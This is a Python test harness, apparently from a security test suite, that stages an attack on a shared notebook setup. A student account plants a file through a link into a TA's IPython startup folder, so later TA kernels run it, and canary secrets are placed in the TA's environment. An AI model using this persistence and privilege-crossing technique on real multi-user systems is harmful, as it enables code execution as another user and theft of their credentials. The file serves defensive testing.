"""a06b: a06 with the content chosen by the student: the TA debugs a cell of mallory's graded notebook (her code, so
she knows its hash); her link points into the TA's IPython startup folder; every later kernel of the TA runs it."""
import os, subprocess, time
home = "/tmp/attack52-user-home"
ipy = f"{home}/.ipython"
startup = f"{ipy}/profile_default/startup"
subprocess.run(["rm", "-rf", ipy]); os.makedirs(startup)
subprocess.run(["chown", "-R", "65534:65534", ipy]); os.chmod(ipy, 0o700)
for f in ("a06b_go", "a06b_done", "a06b_kernel_pid", "ran_as_ta"):
    try: os.unlink(f"{home}/{f}")
    except FileNotFoundError: pass
env = dict(os.environ, HOME=home, IPYTHONDIR=ipy, DATABASE_URL="postgresql://ta:secret@localhost/x", AWS_SECRET_ACCESS_KEY="AKIASECRETCANARY123")
ta = subprocess.Popen(["setpriv", "--reuid", "65534", "--regid", "65534", "--clear-groups", "sh", "-c", "umask 077; exec CLONE/.venv/bin/python tests/attacks/round52/user/a06b_ta.py"],
                      cwd=(__import__("os").environ.get("ATTACK_USER_CLONE") or __import__("os").path.abspath(__import__("os").path.join(__import__("os").path.dirname(__import__("os").path.abspath(__file__)), "..", "..", "..", ".."))), env=env)
while not os.path.exists(f"{home}/a06b_kernel_pid"): time.sleep(0.2)
pid = open(f"{home}/a06b_kernel_pid").read()
r = subprocess.run(["setpriv", "--reuid", "1001", "--regid", "1001", "--clear-groups", "CLONE/.venv/bin/python",
                    "tests/attacks/round52/user/a06b_student.py", pid, f"{startup}/00-mallory.py"], capture_output=True, text=True, cwd="/")
print("STUDENT:", r.stdout, r.stderr[-500:], flush=True)
open(f"{home}/a06b_go", "w").write("1")
ta.wait(timeout=120)
print("TA's startup folder now:", os.listdir(startup))
print("ran_as_ta:", open(f"{home}/ran_as_ta").read() if os.path.exists(f"{home}/ran_as_ta") else None)
subprocess.run(["rm", "-rf", f"/tmp/ipykernel_{pid}", ipy])
